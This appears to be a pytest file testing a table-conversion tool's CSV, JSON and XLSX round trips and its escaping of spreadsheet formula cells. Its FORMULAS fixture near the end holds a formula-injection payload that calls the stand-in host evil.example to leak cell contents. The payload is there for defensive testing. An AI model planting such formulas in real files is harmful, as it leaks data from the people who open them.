"""convert_table: CSV, JSON and XLSX round trips, checked by parsing the output."""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import Workbook, load_workbook

from chatui.errors import ToolError
from tools.builtin.convert_table import ConvertTableTool

from .factories import TRICKY_CSV, input_file

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _convert(file, to: str, **kwargs):
    [out] = ConvertTableTool().run(file=file, to=to, **kwargs).files
    return out


def test_csv_to_json_types_values_and_keeps_text() -> None:
    out = _convert(input_file("people.csv", TRICKY_CSV.encode()), "json")
    assert (out.filename, out.content_type) == ("people.json", "application/json")
    records = json.loads(out.content)
    assert records[0] == {
        "name": "Zoë, the first",
        "city": "Zürich",
        "age": 31,
        "score": 9.5,
        "note": 'says "hi"\nthen leaves',
    }
    assert records[2]["age"] is None and records[3]["score"] is None
    assert records[2]["name"] == "李雷"


def test_csv_to_xlsx_opens_in_openpyxl_with_typed_cells() -> None:
    content = "item,qty,price,formula\nTée,3,2.5,=1+1\nCafé,10,1,ok\n".encode("latin-1")
    out = _convert(input_file("shop.csv", content), "xlsx")
    assert out.content_type == XLSX_TYPE and out.filename == "shop.xlsx"
    sheet = load_workbook(io.BytesIO(out.content)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows == [
        ["item", "qty", "price", "formula"],
        ["Tée", 3, 2.5, "=1+1"],
        ["Café", 10, 1, "ok"],
    ]
    assert sheet["D2"].data_type == "s"  # text from a CSV is never a live formula
    assert sheet["A1"].font.bold and sheet.title == "shop"


def _xlsx(rows: list[list]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Data"
    for row in rows:
        sheet.append(row)
    workbook.create_sheet("Other").append(["x"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_xlsx_to_csv_and_json() -> None:
    content = _xlsx([["city", "pop"], ["Zürich", 421878], ["Genève", None], [None, None]])
    file = input_file("cities.xlsx", content, XLSX_TYPE)
    rows = list(csv.reader(io.StringIO(_convert(file, "csv").content.decode("utf-8"))))
    assert rows == [["city", "pop"], ["Zürich", "421878"], ["Genève", ""]]
    assert json.loads(_convert(file, "json").content) == [
        {"city": "Zürich", "pop": 421878},
        {"city": "Genève", "pop": None},
    ]
    other = json.loads(_convert(file, "json", sheet="Other").content)
    assert other == []
    with pytest.raises(ToolError, match="No sheet 'Nope'; sheets: Data, Other"):
        _convert(file, "csv", sheet="Nope")


def test_json_to_csv_and_xlsx_round_trip() -> None:
    data = [{"a": 1, "b": "x, y"}, {"a": 2.5, "c": True, "b": "line\nbreak"}]
    file = input_file("d.json", json.dumps(data).encode(), "application/json")
    rows = list(csv.reader(io.StringIO(_convert(file, "csv").content.decode())))
    assert rows == [["a", "b", "c"], ["1", "x, y", ""], ["2.5", "line\nbreak", "true"]]
    xlsx = _convert(file, "xlsx")
    back = _convert(input_file("d.xlsx", xlsx.content, XLSX_TYPE), "json")
    assert json.loads(back.content) == [
        {"a": 1, "b": "x, y", "c": None},
        {"a": 2.5, "b": "line\nbreak", "c": True},
    ]


def test_json_array_of_arrays() -> None:
    file = input_file("m.json", b'[["x","y"],[1,2],[3]]')
    assert json.loads(_convert(file, "json").content) == [{"x": 1, "y": 2}, {"x": 3, "y": None}]


@pytest.mark.parametrize(
    ("content", "message"),
    [(b"{not json", "not valid JSON"), (b'{"a": 1}', "array of objects"), (b"[]", "array")],
)
def test_bad_json_is_a_clear_error(content: bytes, message: str) -> None:
    with pytest.raises(ToolError, match=message):
        _convert(input_file("bad.json", content), "csv")


def test_corrupt_xlsx() -> None:
    with pytest.raises(ToolError, match="not a readable XLSX"):
        _convert(input_file("x.xlsx", b"PK\x03\x04garbage"), "csv")


FORMULAS = (
    'name,cmd,n\n=HYPERLINK("http://evil.example/?"&A1),+1+1,-5\n'
    '@SUM(A1:A2),-2+3,3\n"\tTAB",safe,-1.5\n'
)


def test_csv_output_escapes_formula_cells_but_not_numbers() -> None:
    # Finding (issue #20, low): CSV cells starting with = + - @ were written unescaped.
    source = input_file(
        "evil.json", json.dumps(list(csv.DictReader(io.StringIO(FORMULAS)))).encode()
    )
    out = _convert(source, "csv")
    rows = list(csv.reader(io.StringIO(out.content.decode())))
    assert rows[1] == ['\'=HYPERLINK("http://evil.example/?"&A1)', "'+1+1", "-5"]
    assert rows[2] == ["'@SUM(A1:A2)", "'-2+3", "3"]
    assert rows[3] == ["'\tTAB", "safe", "-1.5"]


def test_xlsx_output_keeps_formula_text_as_strings() -> None:
    out = _convert(input_file("evil.csv", FORMULAS.encode()), "xlsx")
    sheet = load_workbook(io.BytesIO(out.content)).active
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK(")
    assert sheet["B3"].data_type == "s" and sheet["B3"].value == "-2+3"
